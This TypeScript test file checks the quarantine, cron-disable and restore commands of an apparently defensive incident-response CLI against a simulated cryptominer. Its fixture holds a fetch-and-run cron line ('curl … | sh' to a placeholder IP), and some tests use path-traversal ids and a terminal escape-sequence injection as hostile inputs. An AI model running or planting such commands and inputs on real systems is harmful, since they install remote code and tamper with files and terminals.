import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { mamori } from "../helpers/cli.ts";
import { tempDir, writeTree } from "../helpers/tmp.ts";
import { docOf, minerStory } from "../report/scenario.ts";

function fixture(t: { after: (fn: () => void) => void }) {
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  writeTree(root, {
    "tmp/kdevtmpfsi": Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]),
    "var/spool/cron/crontabs/daemon": "* * * * * curl -s http://198.51.100.7/kdevtmpfsi | sh\n",
  });
  // As a real /tmp: the miner's program is in a directory anyone can write, so respond moves it.
  fs.chmodSync(path.join(root, "tmp"), 0o1777);
  const report = path.join(dir, "report.json");
  // The quarantine is on the host, never in the image; tests keep it in their own directory.
  const q = path.join(dir, "q");
  fs.writeFileSync(
    report,
    JSON.stringify(docOf(minerStory(), { host: { hostname: "web1", root, live: false } })),
  );
  return { dir, root, report, q };
}

test("respond is a dry run unless --apply, and says exactly what it would do", async (t) => {
  const { root, report } = fixture(t);
  const r = await mamori([
    "respond",
    report,
    "--finding",
    "process.miner:1",
    "--finding",
    "persistence.cron:1",
    "--root",
    root,
  ]);
  assert.match(r.stdout, /^Dry run: nothing was changed/);
  assert.match(r.stdout, /would: move \/tmp\/kdevtmpfsi into the quarantine/);
  assert.match(r.stdout, /would: comment out line 1 of \/var\/spool\/cron\/crontabs\/daemon/);
  // Stopping a process needs the live machine: refused on a --root image; a dry run still exits 0.
  assert.match(
    r.stdout,
    /REFUSED: stop process 4242 \(\/tmp\/kdevtmpfsi, started 2026-11-20 03:14:09 UTC\)[^\n]*\n[^\n]*only be stopped on this machine/,
  );
  assert.equal(r.code, 0);
  assert.ok(fs.existsSync(path.join(root, "tmp/kdevtmpfsi")));
  assert.equal(fs.existsSync(path.join(root, "var/lib/mamori")), false);
});

test("--apply quarantines and disables; restore --list shows the entries and restore undoes them", async (t) => {
  const { root, report, q } = fixture(t);
  const before = fs.readFileSync(path.join(root, "var/spool/cron/crontabs/daemon"));
  const r = await mamori([
    "respond",
    report,
    "--quarantine",
    "/tmp/kdevtmpfsi",
    "--disable-cron",
    "/var/spool/cron/crontabs/daemon:1",
    "--apply",
    "--root",
    root,
    "--quarantine-dir",
    q,
  ]);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.equal(fs.existsSync(path.join(root, "tmp/kdevtmpfsi")), false);
  assert.match(
    fs.readFileSync(path.join(root, "var/spool/cron/crontabs/daemon"), "utf8"),
    /^# mamori-disabled /,
  );
  const ids = [...r.stdout.matchAll(/mamori restore (\S+)/g)].map((m) => m[1] as string);
  assert.equal(ids.length, 2);
  assert.ok(fs.existsSync(path.join(q, ids[0] as string, "manifest.json")));
  assert.equal(fs.existsSync(path.join(root, "var/lib/mamori")), false);

  const list = await mamori(["restore", "--list", "--root", root, "--quarantine-dir", q]);
  assert.equal(list.stdout.trim().split("\n").length, 2);
  assert.match(list.stdout, /quarantined +file +\/tmp\/kdevtmpfsi/);
  assert.match(list.stdout, /quarantined +cron +\/var\/spool\/cron\/crontabs\/daemon:1/);

  for (const id of ids) {
    const back = await mamori(["restore", id, "--root", root, "--quarantine-dir", q]);
    assert.equal(back.code, 0, back.stderr);
  }
  assert.deepEqual(
    fs.readFileSync(path.join(root, "tmp/kdevtmpfsi")),
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]),
  );
  assert.deepEqual(fs.readFileSync(path.join(root, "var/spool/cron/crontabs/daemon")), before);
  const again = await mamori(["restore", ids[0] as string, "--root", root, "--quarantine-dir", q]);
  assert.equal(again.code, 1);
  assert.match(again.stderr, /already done/);
});

test("a finding id that is not in the report is a usage error; --finding needs a report", async (t) => {
  const { root, report } = fixture(t);
  const r = await mamori(["respond", report, "--finding", "nope:1", "--root", root]);
  assert.equal(r.code, 2);
  assert.match(r.stderr, /no finding with id nope:1/);
  const n = await mamori(["respond", "--finding", "x", "--root", root, "--db", path.join(root, "none.db")]);
  assert.equal(n.code, 2);
  assert.match(n.stderr, /no report given and no stored scan in .*none\.db: run `mamori audit --save` first/);
});

test("restore with an id that is not one (a path, ../) is one clear line and exit 2", async (t) => {
  const { dir } = fixture(t);
  for (const id of ["../../etc/passwd", "/etc/shadow", "20261125T120000Z-file-3fa2c1"]) {
    const r = await mamori(["restore", id, "--quarantine-dir", path.join(dir, "q")]);
    assert.equal(r.code, 2, id);
    assert.doesNotMatch(r.stderr, /unexpected|bug/, r.stderr);
    assert.equal(r.stderr.trim().split("\n").length, 1, r.stderr);
  }
});

test("paths from the report reach the terminal escaped", async (t) => {
  const { root } = fixture(t);
  const r = await mamori(["respond", "--quarantine", "/tmp/\x1b]0;pwned\x07x", "--root", root]);
  assert.ok(!r.stdout.includes("\x1b"), r.stdout);
  assert.match(r.stdout, /\\x1b\]0;pwned\\x07x/);
});

test("respond and restore speak Japanese", async (t) => {
  const { root, report } = fixture(t);
  const r = await mamori([
    "respond",
    report,
    "--finding",
    "persistence.cron:1",
    "--root",
    root,
    "--lang",
    "ja",
  ]);
  assert.match(r.stdout, /ドライラン/);
  assert.match(r.stdout, /1 行目をコメントアウト/);
});

test("--incident selects every finding of an incident (ids as rendered by mamori report)", async (t) => {
  const { root, report } = fixture(t);
  const rendered = JSON.parse((await mamori(["report", report, "--format", "json"])).stdout);
  const id = rendered.incidents[0].id as string;
  const r = await mamori(["respond", report, "--incident", id, "--root", root]);
  assert.match(r.stdout, /would: move \/tmp\/kdevtmpfsi into the quarantine/);
  assert.match(r.stdout, /would: comment out line 1 of \/var\/spool\/cron\/crontabs\/daemon/);
  assert.match(r.stdout, /REFUSED: stop process 4242/);
  const bad = await mamori(["respond", report, "--incident", "incident:0000", "--root", root]);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /no incident with id incident:0000/);
});
